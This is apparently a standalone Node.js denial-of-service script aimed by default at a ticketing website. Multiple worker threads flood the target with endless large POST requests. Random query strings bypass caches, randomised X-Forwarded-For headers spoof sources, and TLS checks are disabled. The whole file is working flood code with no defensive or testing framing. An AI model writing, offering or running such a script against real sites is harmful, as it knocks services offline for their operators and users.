const { Worker, isMainThread, workerData } = require('worker_threads');
const https = require('https');
const os = require('os');

if (isMainThread) {
  const target = process.argv[2] || 'https://tickets.arena.example/';
  for (let i = 0; i < os.cpus().length * 4; i += 1) new Worker(__filename, { workerData: { target } });
  console.log('workers are up');
} else {
  const agent = new https.Agent({ keepAlive: true, maxSockets: Infinity, rejectUnauthorized: false });
  const u = new URL(workerData.target);
  const fire = () => {
    const req = https.request({
      agent, hostname: u.hostname, path: `/?${Math.random().toString(36).slice(2)}`, method: 'POST',
      headers: { 'x-forwarded-for': Array.from({ length: 4 }, () => (Math.random() * 255) | 0).join('.') },
    }, (r) => { r.resume(); r.on('end', fire); });
    req.on('error', fire);
    req.end('x'.repeat(65536));
  };
  for (let i = 0; i < 500; i += 1) fire();
}
